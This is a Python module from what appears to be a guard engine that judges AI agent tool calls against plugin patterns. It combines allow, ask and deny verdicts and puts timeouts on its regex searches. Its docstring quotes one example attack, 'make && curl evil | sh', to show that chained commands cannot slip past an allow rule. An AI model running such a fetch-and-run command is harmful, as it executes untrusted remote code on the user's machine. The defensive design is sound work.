"""The plugins' place in the engine's rule chain (after the built-in rules, before the default).

Each plugin's first matching pattern gives that plugin's verdict. Across plugins the most
restrictive verdict wins (deny > ask > allow; the earlier plugin on a tie), so a project
plugin can tighten what a user plugin allows and the order never loosens anything. `flag`
verdicts are all reported to the engine, which records them and goes on.

Which conditions apply to which call:
- shell calls: `match` (regex on the command) and `arg_match`;
- calls with a file path: `file_match` (glob on the base name), `path_match` (glob on the
  absolute path) and `arg_match`;
- any other call: `arg_match` (regex on the serialised input, e.g. MCP tools).
Every condition of a pattern that applies must match, and at least one must apply. An
`allow` with `match` must match every simple command the shell analysis did not already
allow, so `^make` cannot allow `make && curl evil | sh`.
"""
from __future__ import annotations

import fnmatch
import posixpath
from typing import TYPE_CHECKING, Iterable

import regex

from ..budget import OverBudget, remaining
from ..catalog import tool_classes
from ..model import BlastRadius, Decision, ToolCall, Verdict, more_restrictive
from ..rules.base import EvalContext, resolve_path
from .model import Pattern, Plugin

if TYPE_CHECKING:  # pragma: no cover
    from .projects import ProjectPlugins

REGEX_TIMEOUT_S = 0.05  # per search: a catastrophic pattern asks instead of hanging the guard
_BUDGET_MARGIN_S = 0.002  # a search ends this long before the call's judging budget (core/budget.py)
_NO_MATCH = object()


class PluginRule:
    id = "plugins"

    def __init__(self, plugins: Iterable[Plugin] = (), regex_timeout: float = REGEX_TIMEOUT_S,
                 projects: "ProjectPlugins | None" = None):
        self.plugins: tuple[Plugin, ...] = tuple(plugins)  # the watched project's (and the user's)
        self.regex_timeout = regex_timeout
        self.projects = projects  # other projects' plugins, for calls made there

    def plugins_for(self, call: ToolCall) -> tuple[Plugin, ...]:
        return self.plugins if self.projects is None else self.projects.plugins_for(call.cwd, self.plugins)

    def evaluate(self, call: ToolCall, ctx: EvalContext) -> Decision | None:
        decisive: Decision | None = None
        flags: list[Decision] = []
        for plugin in self.plugins_for(call):
            decision = self.judge(plugin, call, ctx)
            if decision is None:
                continue
            if decision.verdict is Verdict.FLAG:
                flags.append(decision)
            else:
                decisive = decision if decisive is None else more_restrictive(decisive, decision)
        if decisive is None and not flags:
            return None
        if decisive is None:
            decisive, flags = flags[0], flags[1:]
        # the engine records these flags even though the decision carries another verdict
        return decisive.with_metadata(flags_raised=tuple(flags)) if flags else decisive

    def judge(self, plugin: Plugin, call: ToolCall, ctx: EvalContext) -> Decision | None:
        """This plugin's verdict on the call: its first matching pattern, or None."""
        if plugin.broken:
            what = "" if plugin.standin else "plugin file broken, no good version to keep: "
            return Decision(Verdict.ASK, f"{what}{plugin.broken} (fix it; until then every call asks)",
                            plugin.rule_id, BlastRadius.UNKNOWN, "config-error", {"file": plugin.file})
        if not plugin.applies_to(call.tool):
            return None
        for pattern in plugin.patterns:
            try:
                hit = self._hit(pattern, call, ctx)
            except TimeoutError:
                return Decision(Verdict.ASK, f"plugin {plugin.id}: pattern {pattern.index + 1} (line {pattern.line}) "
                                             f"ran longer than {self.regex_timeout * 1000:.0f} ms on this call, "
                                             f"so it could not be judged",
                                plugin.rule_id, BlastRadius.UNKNOWN, "plugin-timeout",
                                {"plugin": plugin.id, "file": plugin.file, "pattern": pattern.index})
            if hit is not _NO_MATCH:
                return Decision(pattern.verdict, pattern.reason, plugin.rule_id, pattern.blast_radius,
                                pattern.category, {"plugin": plugin.id, "file": plugin.file, "level": plugin.level,
                                                   "pattern": pattern.index, "matched": str(hit)[:200]})
        return None

    # -- matching ----------------------------------------------------------------------
    def _hit(self, pattern: Pattern, call: ToolCall, ctx: EvalContext) -> object:
        """What matched (for the record), or _NO_MATCH."""
        hits: list[object] = []
        if call.tool in tool_classes().shell:
            if pattern.match_re is not None:
                hits.append(self._shell_hit(pattern, call, ctx))
        elif call.file_path:
            path = resolve_path(call.file_path, call.cwd, ctx.home)
            if pattern.file_match is not None:
                hits.append(path if fnmatch.fnmatchcase(posixpath.basename(path), pattern.file_match) else _NO_MATCH)
            if pattern.path_match is not None:
                wanted = pattern.path_match
                wanted = ctx.home + wanted[1:] if wanted.startswith("~/") else wanted
                hits.append(path if fnmatch.fnmatchcase(path, wanted) else _NO_MATCH)
        if pattern.arg_re is not None:
            hits.append(self._search(pattern.arg_re, call.serialised_input()))
        if not hits or _NO_MATCH in hits:
            return _NO_MATCH
        return hits[0]

    def _shell_hit(self, pattern: Pattern, call: ToolCall, ctx: EvalContext) -> object:
        assert pattern.match_re is not None
        if pattern.verdict is not Verdict.ALLOW:
            return self._search(pattern.match_re, call.command)
        # loosening: every part the analysis did not already allow must be covered
        parts = [f.segment for f in ctx.shell(call).findings if f.verdict is not Verdict.ALLOW and f.segment]
        first: object = _NO_MATCH
        for part in parts or [call.command]:
            hit = self._search(pattern.match_re, part)
            if hit is _NO_MATCH:
                return _NO_MATCH
            first = hit if first is _NO_MATCH else first
        return first

    def _search(self, compiled: regex.Pattern, text: str) -> object:
        # the search runs in C, out of the budget's reach: it gets what is left of the budget as its limit
        left = remaining() - _BUDGET_MARGIN_S
        if left <= 0:
            raise OverBudget()
        try:
            found = compiled.search(text, timeout=min(self.regex_timeout, left))
        except TimeoutError:
            if left < self.regex_timeout:
                raise OverBudget() from None  # the call's budget ran out, not this pattern's own limit
            raise
        return found.group(0) if found is not None else _NO_MATCH
